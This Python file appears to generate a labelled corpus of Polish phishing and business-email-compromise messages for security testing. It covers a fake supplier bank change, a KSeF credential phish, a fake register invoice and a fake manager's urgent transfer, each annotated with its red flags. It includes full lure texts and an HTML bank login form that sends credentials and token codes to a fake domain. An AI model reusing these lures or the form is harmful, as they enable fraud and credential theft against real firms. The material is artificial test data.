"""Polish-language attack messages (22-26)."""
from lib import mk, Text, Att, alt, mixed, html_part, paras, pdf_att
from mime import T, sec, h, hn, uuid, fmt, ALNUM
from company import st, sa, BANK, IDS
from codes import nrb, pl_nip_fmt, iban_fmt
from files import pdf
import infra

F = "attack"


def build():
    # ------------------------------------------------------------ 22 logistics partner bank change, look-alike domain
    t = T(2026, 10, 19, 9, 18, 37, "PL")
    p = infra.own_postfix("a22", t, "mail.partnerlogistik.pl", "146.59.18.204", "partnerlogistik.pl",
                          "5.226.139.87|unknown", mid_style="outlook", rdns="vps-58e1a2b3.vps.ovh.net", tzone="PL",
                          auth="t.zielinski@partnerlogistik.pl")
    txt = """Szanowny Panie Pawle,

uprzejmie informuję, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 19.10.2026 r. prosimy o dokonywanie wszystkich płatności na nowy rachunek:

Partner Logistik sp. z o.o.
mBank S.A.
{nrb}

Dotychczasowy rachunek w PKO BP zostanie zamknięty z końcem miesiąca. Nowy numer zostanie zgłoszony do wykazu podatników VAT (biała lista) - aktualizacja w wykazie może potrwać do 7 dni roboczych, dlatego prosimy nie wstrzymywać płatności z tego powodu. Split payment na nowy rachunek jest oczywiście obsługiwany.

W załączeniu przesyłam zestawienie faktur do zapłaty w tym tygodniu (FV 1184/10/2026 i FV 1197/10/2026 - obsługa magazynowa i rozładunki Poznań FoodTech Fair, łącznie 27 640,80 PLN). Prosiłbym o potwierdzenie zmiany w systemie zwrotnym mailem.

Z poważaniem
Tadeusz Zieliński
Kierownik Działu Spedycji
Partner Logistik sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
NIP {nip}
""".format(nrb=nrb(BANK["mule_pl"]), nip=pl_nip_fmt(IDS["partner_nip"]))
    body = alt(Text(txt, "plain", "iso-8859-2", "quoted-printable"), html_part(paras(txt), "iso-8859-2", lang="pl"))
    mk(F, 22, "pl", "logistics-bank-change-lookalike", t=t, prof=p, order="ms", date_zone="PL",
       frm=("Tadeusz Zieliński", "t.zielinski@partnerlogistik.pl"), to=[st("Paweł")],
       subject="Zmiana rachunku bankowego - Partner Logistik sp. z o.o.", hcs="iso-8859-2", body=body,
       what="'Tadeusz Zieliński' of Partner Logistik announces a new mBank account and asks to pay two invoices there, pre-empting the VAT white-list check.",
       why="Look-alike domain partnerlogistik.pl (real: partner-logistik.pl) on an OVH VPS; new account not on the VAT white list is explained away in advance; request to confirm by e-mail only. Classic supplier-impersonation BEC.")

    # ------------------------------------------------------------ 23 KSeF phishing via Amazon SES
    t = T(2026, 11, 9, 7, 55, 9, "PL")
    p = infra.ses("a23", t, "eu-central-1")
    url = "https://ksef-podatki.com.pl/web/logowanie?nip=7792361816&ref=" + h("a23r", 12).upper()
    txt = """Krajowy System e-Faktur (KSeF)

Powiadomienie o odrzuceniu faktury

Faktura nr FV/2026/11/0384 wystawiona dla: EXAMPLE GROUP POLSKA SP. Z O.O. (NIP {nip}) została odrzucona przez KSeF.

Przyczyna: brak aktywnych uprawnień do odbioru faktur ustrukturyzowanych dla podmiotu / wygasły token autoryzacyjny.

Do czasu nadania uprawnień faktury wystawiane dla Państwa firmy nie będą mogły zostać przyjęte, co może skutkować wstrzymaniem dostaw przez kontrahentów. Prosimy o ponowną autoryzację w ciągu 72 godzin za pomocą profilu zaufanego, e-dowodu lub certyfikatu KSeF:

{url}

Wiadomość wygenerowana automatycznie. Ministerstwo Finansów - Krajowa Administracja Skarbowa.
""".format(nip=pl_nip_fmt(IDS["example_pl_nip"]), url=url)
    htm = """<div style="font-family:Arial,sans-serif;max-width:600px;font-size:14px;color:#1b1b1b">
<div style="border-bottom:4px solid #dc143c;padding:10px 0"><b style="font-size:18px">Krajowy System e-Faktur</b> &nbsp;|&nbsp; Ministerstwo Finansów</div>
<h3>Powiadomienie o odrzuceniu faktury</h3>
<p>Faktura nr <b>FV/2026/11/0384</b> wystawiona dla: EXAMPLE GROUP POLSKA SP. Z O.O. (NIP {nip}) została <b style="color:#dc143c">odrzucona</b> przez KSeF.</p>
<p>Przyczyna: brak aktywnych uprawnień do odbioru faktur ustrukturyzowanych dla podmiotu / wygasły token autoryzacyjny.</p>
<p>Do czasu nadania uprawnień faktury wystawiane dla Państwa firmy nie będą mogły zostać przyjęte, co może skutkować wstrzymaniem dostaw przez kontrahentów. Prosimy o ponowną autoryzację w ciągu <b>72 godzin</b>.</p>
<p><a href="{url}" style="background:#dc143c;color:#fff;padding:10px 18px;text-decoration:none">Zaloguj się: profil zaufany / e-dowód / certyfikat KSeF</a></p>
<p style="font-size:11px;color:#777">Wiadomość wygenerowana automatycznie. Ministerstwo Finansów - Krajowa Administracja Skarbowa.</p></div>""".format(nip=pl_nip_fmt(IDS["example_pl_nip"]), url=url)
    body = alt(Text(txt, "plain", "utf-8", "base64"), html_part(htm, "utf-8", "base64", lang="pl", style="margin:0"))
    mk(F, 23, "pl", "ksef-invoice-rejected-phish", t=t, prof=p, date_zone="UTC",
       frm=("KSeF - Ministerstwo Finansów", "powiadomienia@ksef-podatki.com.pl"), to=[st("Paweł")],
       mail_from="0102019%s-%s@eu-central-1.amazonses.com" % (h("a23a", 9), h("a23b", 30)),
       subject="KSeF: faktura FV/2026/11/0384 odrzucona - wymagana ponowna autoryzacja", body=body,
       what="'Ministry of Finance / KSeF' notice that an incoming structured invoice was rejected for lack of permissions, asking to re-authorise via Profil Zaufany / KSeF certificate.",
       why="KSeF-themed credential phishing via Amazon SES: KSeF does not reject invoices for missing recipient permissions nor e-mail such notices; domain ksef-podatki.com.pl is not podatki.gov.pl; threat of halted deliveries; harvests Profil Zaufany / certificate login.")

    # ------------------------------------------------------------ 24 HTML attachment, bank credential phishing
    t = T(2026, 11, 16, 8, 40, 11, "PL")
    p = infra.own_postfix("a24", t, "mail.pkobp-biznes.net.pl", "91.107.219.33", "pkobp-biznes.net.pl",
                          "127.0.0.1|localhost", mid_style="generic", rdns="static.33.219.107.91.clients.your-server.de",
                          tzone="PL", ua=None)
    txt = """Szanowni Państwo,

informujemy, że certyfikat podpisu dyspozycji w serwisie iPKO biznes dla firmy EXAMPLE GROUP POLSKA SP. Z O.O. wygasa dnia 18.11.2026 r.

Aby zachować możliwość autoryzacji przelewów i paczek płatności, prosimy o ponowną weryfikację użytkownika. W załączeniu przesyłamy bezpieczny formularz autoryzacyjny - prosimy otworzyć plik w przeglądarce i zalogować się danymi do iPKO biznes.

Brak weryfikacji spowoduje czasowe zablokowanie możliwości podpisywania dyspozycji.

Z poważaniem
Zespół Bankowości Elektronicznej
PKO Bank Polski
"""
    form = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="windows-1250"><title>iPKO biznes - logowanie</title>
<style>body{font-family:Arial,sans-serif;background:#f0f0f0} .w{width:380px;margin:60px auto;background:#fff;padding:30px;border-top:6px solid #003574}
input{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #bbb} button{background:#003574;color:#fff;border:0;padding:11px;width:100%}</style></head>
<body><div class="w"><h2 style="color:#003574">iPKO biznes</h2><p>Weryfikacja certyfikatu podpisu</p>
<form method="post" action="https://pkobp-biznes.net.pl/auth/verify.php">
<label>Identyfikator firmy</label><input name="firma">
<label>Login użytkownika</label><input name="login">
<label>Hasło</label><input name="haslo" type="password">
<label>Kod z tokena / aplikacji mobilnej</label><input name="kod">
<button type="submit">Zaloguj i potwierdź</button></form>
<p style="font-size:11px;color:#777">PKO Bank Polski S.A., ul. Puławska 15, 02-515 Warszawa</p></div></body></html>
"""
    body = mixed(Text(txt, "plain", "windows-1250", "quoted-printable"),
                 Att(form.encode("windows-1250"), "text/html", "iPKO_biznes_weryfikacja.html", extra_ct="; charset=windows-1250"))
    mk(F, 24, "pl", "html-attachment-bank-login", t=t, prof=p, date_zone="PL",
       frm=("PKO Bank Polski", "powiadomienia@pkobp-biznes.net.pl"), to=[st("Małgorzata")], cc=[st("Paweł")],
       subject="iPKO biznes: wygasa certyfikat podpisu dyspozycji - wymagana weryfikacja", hcs="windows-1250",
       body=body,
       what="'PKO Bank Polski' warns that the corporate banking signing certificate expires and attaches an HTML login form.",
       why="HTML-attachment credential phishing: local form posts company ID, login, password and token code to pkobp-biznes.net.pl (not pkobp.pl), sent from a Hetzner server; banks never send login forms as attachments.")

    # ------------------------------------------------------------ 25 fake register invoice
    t = T(2026, 11, 25, 10, 3, 56, "PL")
    p = infra.own_postfix("a25", t, "poczta.crpif-rejestr.pl", "195.78.67.141", "crpif-rejestr.pl",
                          "127.0.0.1|localhost", mid_style="php", rdns="vps141.mikr.us", tzone="PL")
    acct = BANK["mule_pl_reg"]
    txt = """Szanowni Państwo,

w nawiązaniu do wpisu Państwa firmy w Centralnym Rejestrze Przedsiębiorców i Firm (CRPiF) przesyłamy fakturę za aktualizację i publikację danych rejestrowych na rok 2027.

Nazwa: EXAMPLE GROUP POLSKA SP. Z O.O.
NIP: {nip}
Numer wpisu: CRPiF/2026/WLKP/88417

Kwota do zapłaty: 1 289,00 PLN
Termin płatności: 7 dni
Rachunek: {nrb}

Fakturę w formacie PDF przesyłamy w załączeniu. Prosimy o dokonanie wpłaty w terminie, aby uniknąć wykreślenia wpisu.

Z poważaniem
Dział Rozliczeń CRPiF
""".format(nip=pl_nip_fmt(IDS["example_pl_nip"]), nrb=nrb(acct))
    inv = pdf([("F2", 14, "Centralny Rejestr Przedsiębiorców i Firm"), "Dział Rozliczeń", "",
               ("F2", 12, "Faktura nr CRPiF/FV/2026/11/4471"), "Data wystawienia: 25.11.2026", "",
               "Nabywca: EXAMPLE GROUP POLSKA SP. Z O.O., ul. Bukowska 12, 60-810 Poznań",
               "NIP: " + pl_nip_fmt(IDS["example_pl_nip"]), "",
               "1. Aktualizacja i publikacja danych rejestrowych w CRPiF (12 mies.)   1 047,97 PLN",
               "   VAT 23%                                                                  241,03 PLN",
               ("F2", 10, "   Razem do zapłaty                                                   1 289,00 PLN"), "",
               "Rachunek: " + nrb(acct), "",
               ("F1", 6, "CRPiF jest prywatną bazą danych i nie jest rejestrem publicznym w rozumieniu ustawy o KRS ani CEIDG. Wpłata oznacza akceptację oferty i zawarcie umowy"),
               ("F1", 6, "na publikację wpisu na okres 12 miesięcy z automatycznym przedłużeniem. Regulamin dostępny na stronie internetowej.")],
              title="Faktura CRPiF/FV/2026/11/4471", producer="mPDF 8.2.4")
    body = mixed(Text(txt, "plain", "iso-8859-2", "base64"), pdf_att(inv, "Faktura_CRPiF_2026_11_4471.pdf"))
    mk(F, 25, "pl", "fake-register-invoice", t=t, prof=p, date_zone="PL",
       frm=("CRPiF - Rozliczenia", "faktury@crpif-rejestr.pl"), to=[st("Paweł")],
       subject="Faktura CRPiF/FV/2026/11/4471 - aktualizacja wpisu 2027", hcs="iso-8859-2", body=body,
       what="Invoice from a 'Central Register of Entrepreneurs and Companies' for the 2027 'update and publication' of the company's data, 1,289 PLN.",
       why="Fake register invoice scam common in Poland (imitates KRS/CEIDG): small print reveals a private database and that payment = contract with auto-renewal; nothing was ordered; threat of 'deletion'; cheap VPS + PHP mailer.")

    # ------------------------------------------------------------ 26 fake office manager, urgent transfer, look-alike domain
    t = T(2026, 12, 1, 11, 52, 14, "PL")
    p = infra.own_postfix("a26", t, "mail.example-group.pl", "45.141.215.66", "example-group.pl",
                          "45.141.215.66|unknown", mid_style="outlook", rdns="unknown", tzone="PL",
                          auth="malgorzata.wojcik@example-group.pl")
    p["client"] = ("mail.example-group.pl", "unknown", "45.141.215.66")
    txt = """Paweł,

potrzebuję, żebyś dzisiaj przed 14:00 zrobił przelew zaliczki za dodatkową powierzchnię w pawilonie 5 na FoodTech 2027 - 48 600,00 zł. Operator targów przysłał dziś rano potwierdzenie rezerwacji, bez wpłaty do 14:00 powierzchnia idzie do innego wystawcy.

Dane do przelewu:
Odbiorca: MTP Rezerwacje Powierzchni
Rachunek: {nrb}
Tytuł: Zaliczka pawilon 5 / FoodTech 2027 / Example Group

Fakturę zaliczkową dostaniemy po wpłacie, zatwierdzenie w systemie uzupełnię po południu - jestem cały czas na spotkaniu z zarządem i nie mogę rozmawiać, więc proszę nie dzwoń, tylko potwierdź mailem, jak przelew wyjdzie.

Dzięki
Małgorzata
""".format(nrb=nrb(BANK["mule_pl2"]))
    body = Text(txt, "plain", "windows-1250", "8bit")
    mk(F, 26, "pl", "fake-manager-urgent-transfer", t=t, prof=p, order="ms", date_zone="PL",
       frm=("Małgorzata Wójcik", "malgorzata.wojcik@example-group.pl"), to=[st("Paweł")],
       reply_to=("Małgorzata Wójcik", "m.wojcik.examplegroup@onet.pl"),
       subject="Pilne - zaliczka pawilon 5", hcs="windows-1250", body=body,
       what="The Poznań office manager's name from example-group.pl asks the local accountant for a 48,600 PLN same-day 'deposit' to the fair operator, approval to follow.",
       why="Internal-executive impersonation (BEC): look-alike domain example-group.pl on a VPS, Reply-To onet.pl, deadline, 'do not call', payment before approval and invoice; recipient account is not the fair operator's. Compare the genuine request business/26 via the internal relay.")
